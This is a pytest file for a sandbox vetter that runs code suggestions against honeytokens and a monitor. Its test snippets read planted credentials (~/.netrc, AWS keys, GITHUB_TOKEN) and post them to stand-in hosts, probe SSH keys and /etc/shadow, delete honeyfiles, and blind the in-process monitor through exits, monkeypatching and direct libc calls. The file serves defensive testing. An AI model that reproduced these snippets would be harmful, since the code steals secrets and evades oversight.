"""Micro-execution and honeytokens, end to end: suggestions that are function bodies placed in their
documents, vetted by the pipeline on both backends, and the ways a suggestion could dodge the
exercise or the honeytokens. The labelled corpus is vetted in test_exercise_corpus.py."""

from __future__ import annotations

import dataclasses
import textwrap

import pytest

from sandgate.findings import Verdict
from sandgate.pipeline import Vetter
from sandgate.policy.load import load_effective
from sandgate.suggestion import Suggestion
from tests.sandbox.exercise_corpus import MALICIOUS as CORPUS_MALICIOUS
from tests.sandbox.exercise_corpus import SERVICE

DOC = SERVICE
# The first cases of the corpus (tests/sandbox/exercise_corpus.py), which the tests below name.
MALICIOUS = [(c.name, c.snippet, c.expected) for c in CORPUS_MALICIOUS[:8]]


@pytest.fixture(scope="module", params=["docker", "bwrap"])
def vetter(request):
    # These tests are about what the run sees. Balanced's capability rules would block most of
    # these suggestions before they run (tests/core/test_capabilities.py), so they are left out.
    loaded = load_effective(None, preset="balanced")
    rules = tuple(r for r in loaded.policy.rules if r.source != "capability")
    v = Vetter(
        dataclasses.replace(loaded, policy=dataclasses.replace(loaded.policy, rules=rules)), backend=request.param
    )
    backend, probes = v.backend()
    assert backend is not None and backend.name == request.param, probes
    v.warm()
    return v


def vet(vetter, snippet: str):
    text = textwrap.dedent(snippet).lstrip("\n") if not snippet.startswith("\n    ") else snippet.lstrip("\n")
    lines = DOC.count("\n")
    return vetter.vet(Suggestion(text, document=DOC, line=lines, character=0, path="svc.py"))


def test_findings_name_the_function_and_line(vetter):
    result = vet(vetter, MALICIOUS[0][1])
    leak = next(f for f in result.findings if f.rule == "secret.exfiltration")
    assert "upload_report()" in leak.message and "httpx.post" in leak.message
    assert leak.line == DOC.count("\n") + 3  # the httpx.post line of the suggestion
    read = next(f for f in result.findings if f.rule == "secret.honeytoken-read")
    assert read.detail("token") == "~/.aws/credentials"


def test_honeytoken_in_a_name_lookup_is_exfiltration(vetter):
    result = vet(vetter, MALICIOUS[2][1])
    leak = [f for f in result.findings if f.rule == "secret.exfiltration"]
    assert leak and "name look-up" in leak[0].message and "health_ping()" in leak[0].message


def test_the_standard_librarys_own_environment_reads_are_not_the_programs(vetter):
    """urllib looks for proxy settings by walking os.environ (through frozen `os` and
    `_collections_abc` frames in Python 3.11+): not a read of the planted secrets. A read the
    suggestion's own function makes still is."""
    result = vet(
        vetter,
        """
def proxies_in_use() -> dict:
    import urllib.request

    return urllib.request.getproxies()
""",
    )
    assert not [f for f in result.findings if f.rule == "secret.honeytoken-read"], result.findings
    own = vet(
        vetter,
        """
def deploy_key() -> str:
    import os

    return os.environ.get("AWS_SECRET_ACCESS_KEY", "")
""",
    )
    assert [f.detail("token") for f in own.findings if f.rule == "secret.honeytoken-read"] == ["$AWS_SECRET_ACCESS_KEY"]


def test_exiting_from_the_exercise_is_held(vetter):
    result = vet(
        vetter,
        """
def quiet() -> None:
    os._exit(0)
""",
    )
    assert result.verdict is Verdict.BLOCK
    assert "monitor.tampered" in {f.rule for f in result.findings}


def test_switching_the_exercise_off_is_held(vetter):
    # The module body stops the process before the exercise with a clean exit of its own.
    result = vet(
        vetter,
        """
def steal() -> None:
    requests.post("https://x.example.net", data=open(os.path.expanduser("~/.netrc")).read())

import sys, atexit
atexit._clear()
sys.exit(0)
""",
    )
    rules = {f.rule for f in result.findings}
    assert result.verdict is Verdict.BLOCK, rules
    assert "secret.exfiltration" in rules  # the exercise still ran after the module's SystemExit


def test_deleting_or_rewriting_honeyfiles_is_seen(vetter):
    result = vet(
        vetter,
        """
def tidy() -> None:
    home = os.path.expanduser("~")
    open(home + "/.aws/credentials", "w").write("[default]\\n")
    os.unlink(home + "/.ssh/id_rsa")
""",
    )
    paths = {f.detail("path") for f in result.findings if f.rule == "fs.write-outside-scratch"}
    assert {"/home/sandbox/.aws/credentials", "/home/sandbox/.ssh/id_rsa"} <= paths
    assert result.verdict is Verdict.BLOCK


def test_patching_the_stand_ins_does_not_hide_the_record(vetter):
    # The code reaches the stand-in class through its argument and blinds it; the read of the
    # honeyfile is still recorded by the supervisor.
    result = vet(
        vetter,
        """
def sneaky(client) -> None:
    type(client).__call__ = lambda *a, **k: None
    data = open(os.path.expanduser("~/.docker/config.json")).read()
    client.send(data)
""",
    )
    rules = {f.rule for f in result.findings}
    assert "secret.honeytoken-read" in rules and "fs.read-outside-workspace" in rules
    assert result.verdict is Verdict.REVIEW


# Looks at a secret's path without opening it: no audit event exists for them, so only the
# supervisor's record (stat/access system calls) sees them.
PROBES = [
    (
        "os.path.exists",
        'return os.path.exists(os.path.expanduser("~/.aws/credentials"))',
        "/home/sandbox/.aws/credentials",
    ),
    ("os.stat", 'return os.stat(os.path.expanduser("~/.ssh/id_ed25519")).st_size > 0', "/home/sandbox/.ssh/id_ed25519"),
    ("Path.is_file", 'return (Path.home() / ".netrc").is_file()', "/home/sandbox/.netrc"),
    ("os.access", 'return os.access("/etc/shadow", os.R_OK)', "/etc/shadow"),
    ("Path.exists, a foreign home", 'return Path("/root/.ssh/id_rsa").exists()', "/root/.ssh/id_rsa"),
]


@pytest.mark.parametrize("how, body, path", PROBES, ids=[p[0] for p in PROBES])
def test_a_look_at_a_secrets_path_is_a_probe(vetter, how, body, path):
    result = vet(vetter, f"\ndef has_credentials() -> bool:\n    {body}\n")
    probes = [f for f in result.findings if f.rule == "secret.probe"]
    assert [f.detail("path") for f in probes] == [path], (how, result.findings)
    assert result.verdict is Verdict.REVIEW  # balanced holds a search for secrets


def test_a_probe_through_libc_with_the_monitor_blinded_is_still_seen(vetter):
    """The code switches the in-process report off (it replaces the hook's writer and calls libc
    itself): the look is in the supervisor's record all the same."""
    result = vet(
        vetter,
        """
def has_key() -> bool:
    import ctypes, sys
    for mod in list(sys.modules.values()):
        if getattr(mod, "_write", None) is not None and mod.__name__ == "__main__":
            mod._write = lambda *a: 0
    libc = ctypes.CDLL(None)
    return libc.access(os.path.expanduser("~/.ssh/id_rsa").encode(), 0) == 0
""",
    )
    probes = [f for f in result.findings if f.rule == "secret.probe"]
    assert [f.detail("path") for f in probes] == ["/home/sandbox/.ssh/id_rsa"], result.findings
    # The blinding worked: the in-process report stopped (no final line), which is a finding too.
    assert "monitor.tampered" in {f.rule for f in result.findings}
    assert result.verdict is Verdict.BLOCK


def test_a_listing_of_a_secrets_folder_is_a_probe_seen_from_outside(vetter):
    result = vet(
        vetter,
        """
def key_names() -> list:
    fd = os.open(os.path.expanduser("~/.aws"), os.O_RDONLY | os.O_DIRECTORY)
    os.close(fd)
    return []
""",
    )
    probes = [f for f in result.findings if f.rule == "secret.probe"]
    assert "/home/sandbox/.aws" in {f.detail("path") for f in probes}, result.findings


def test_the_interpreters_own_looks_are_not_probes(vetter):
    """Imports look at hundreds of paths under /usr: none is a probe, and a program that imports much
    still runs within its time (the import system's looks are remembered for the run)."""
    result = vet(
        vetter,
        """
def summary() -> str:
    import argparse, csv, email.message, http.client, logging, tempfile, urllib.parse
    return json.dumps({"ok": True})
""",
    )
    assert not [f for f in result.findings if f.rule.startswith("secret.")], result.findings
    assert result.verdict is Verdict.ALLOW, result.findings


def test_a_service_key_sent_to_its_own_service_is_use_not_exfiltration(vetter):
    """GITHUB_TOKEN in an Authorization header to api.github.com is the code using its key: reported
    (`secret.use`), allowed by balanced. The same header to another host is exfiltration."""
    own = vet(
        vetter,
        """
def whoami() -> str:
    token = os.environ["GITHUB_TOKEN"]
    return requests.get("https://api.github.com/user", headers={"Authorization": f"token {token}"}, timeout=10).text
""",
    )
    rules = {f.rule for f in own.findings}
    assert "secret.use" in rules and "secret.exfiltration" not in rules, own.findings
    use = next(f for f in own.findings if f.rule == "secret.use")
    assert use.detail("token") == "GITHUB_TOKEN" and "whoami()" in use.message
    assert own.verdict is Verdict.ALLOW, own.reasons
    foreign = vet(
        vetter,
        """
def whoami() -> str:
    token = os.environ["GITHUB_TOKEN"]
    return requests.get("https://gh-proxy.example.net/user", headers={"Authorization": f"token {token}"}, timeout=10).text
""",
    )
    assert "secret.exfiltration" in {f.rule for f in foreign.findings}, foreign.findings
    assert "secret.use" not in {f.rule for f in foreign.findings}
    assert foreign.verdict is Verdict.BLOCK


def test_a_secret_staged_in_a_file_then_sent_and_deleted_is_exfiltration(vetter):
    """The planted values go through a file in scratch, the open file is handed to the network
    client, and the file is deleted afterwards: what the client was handed is what counts."""
    result = vet(
        vetter,
        """
def ship_config() -> None:
    path = "/tmp/cfg-" + str(os.getpid())
    with open(path, "w") as f:
        f.write(os.environ.get("AWS_SECRET_ACCESS_KEY", ""))
    with open(path, "rb") as f:
        httpx.post("https://cfg.example.org/in", content=f, timeout=5)
    os.unlink(path)
""",
    )
    leaks = [f for f in result.findings if f.rule == "secret.exfiltration"]
    assert [f.detail("token") for f in leaks] == ["AWS_SECRET_ACCESS_KEY"], result.findings
    assert "ship_config()" in leaks[0].message
    assert result.verdict is Verdict.BLOCK


GUARDED = '''"""Sync jobs."""
import os

import requests


def push(count: int, url: str = "https://api.example.com/push") -> None:
    if count < 5:
        raise ValueError("too few items")
    # <fill>
'''

REFUSING = '''"""Sync jobs."""
import os

import requests


def push(url: str = "https://api.example.com/push") -> None:
    if not os.environ.get("PUSH_ENABLED"):
        raise RuntimeError("push is not configured on this machine")
    # <fill>
'''


def _vet_into(vetter, document: str, text: str, policy=None):
    line = document.split("\n").index("    # <fill>")
    doc = document.replace("    # <fill>", "    ")
    return vetter.vet(Suggestion(text, document=doc, line=line, character=4, path="jobs.py"))


def test_lines_after_a_failing_check_are_reached_by_a_second_call_with_stand_ins(vetter):
    """`count` = 1 from its annotation fails the check before the suggestion; the second call, with
    stand-ins for every argument, gets past it and runs the suggestion's lines."""
    result = _vet_into(
        vetter, GUARDED, 'requests.post(url, data=open(os.path.expanduser("~/.netrc")).read(), timeout=5)\n'
    )
    rules = {f.rule for f in result.findings}
    assert "exercise.unreached" not in rules, result.findings
    assert "secret.exfiltration" in rules and "secret.honeytoken-read" in rules, rules  # the retry ran them
    calls = next(f for f in result.findings if f.rule == "exercise.calls")
    assert "push() returned" in calls.message, calls.message


def test_what_the_calls_came_to_is_said_in_a_whole_sentence(vetter):
    result = vetter.vet(
        Suggestion(
            "def fibonacci(n: int = 10) -> int:\n    return n if n < 2 else fibonacci(n - 1) + fibonacci(n - 2)\n"
        )
    )
    calls = next(f for f in result.findings if f.rule == "exercise.calls")
    assert calls.message == (
        "Sandgate called the suggestion's functions with stand-in arguments: fibonacci() returned normally."
    ), calls.message
    broken = vetter.vet(Suggestion("def a():\n    return 1\n\n\ndef b():\n    raise ValueError('no')\n"))
    calls = next(f for f in broken.findings if f.rule == "exercise.calls")
    assert calls.message.endswith(": a() returned normally; b() raised (ValueError: no)."), calls.message


def test_lines_no_call_reaches_are_reported_unreached(vetter):
    result = _vet_into(
        vetter, REFUSING, 'requests.post(url, data=open(os.path.expanduser("~/.netrc")).read(), timeout=5)\n'
    )
    unreached = [f for f in result.findings if f.rule == "exercise.unreached"]
    assert len(unreached) == 1, result.findings
    assert unreached[0].detail("function") == "push" and "RuntimeError" in unreached[0].message
    assert "even with stand-ins" not in unreached[0].message  # push() has no argument to replace
    assert "secret.honeytoken-read" not in {f.rule for f in result.findings}  # indeed not run
    assert result.verdict is Verdict.ALLOW  # balanced reports it; strict holds it:
    strict = load_effective(None, preset="strict").policy
    from sandgate.policy.evaluate import decide

    assert decide(strict, unreached).verdict is Verdict.REVIEW
